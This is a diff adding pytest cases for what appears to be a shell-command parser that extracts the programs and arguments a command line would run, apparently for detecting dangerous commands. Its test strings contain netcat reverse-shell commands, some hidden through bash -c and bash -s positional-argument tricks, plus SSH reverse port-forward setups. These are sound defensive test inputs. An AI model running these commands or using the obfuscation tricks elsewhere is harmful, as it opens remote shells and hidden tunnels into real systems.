@@ -443,3 +443,21 @@ def test_sed_on_files_the_session_wrote_reads_and_edits_them():
     assert session.lookup("/tmp/b.sh") == "nc -e /bin/sh 10.0.0.1 4444\n"
     assert "nc" in names("sh /tmp/b.sh", session)
     assert names("sed -i 's/a/b/' /etc/hosts", Session()) == ["sed"]  # a file nobody wrote: as before
+
+
+@pytest.mark.parametrize("text", [
+    "echo '$1 -e /bin/sh 10.0.0.1 4444' | bash -s -- nc",
+    "bash -c -- '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
+    "bash -o pipefail -c '$1 -e /bin/sh 10.0.0.1 4444' _ nc",
+])
+def test_shell_options_before_the_command_string(text):
+    assert ["-e", "/bin/sh", "10.0.0.1", "4444"] in [c.args for c in reader.read(text) if c.name == "nc"]
+
+
+def test_option_forms_of_ssh_rsync_and_xargs():
+    text = "printf 'Host *\\n\\tRemoteForward\\t2222 localhost:22\\n' > /tmp/cfg; ssh -F/tmp/cfg -fN u@203.0.113.4"
+    assert any("-oremoteforward=2222 localhost:22" in c.args for c in reader.read(text) if c.name == "ssh")
+    assert "-R" in find("rsync -avze 'ssh -R 2222:localhost:22' a u@h:b", "ssh").args
+    calls = [c.args for c in reader.read("printf 'ls\\nid\\n' | xargs --max-args=1 echo") if c.name == "echo"]
+    assert calls == [["ls"], ["id"]]
+    assert [c.args for c in reader.read("printf 'a b c' | xargs -n1 echo") if c.name == "echo"] == [["a"], ["b"], ["c"]]
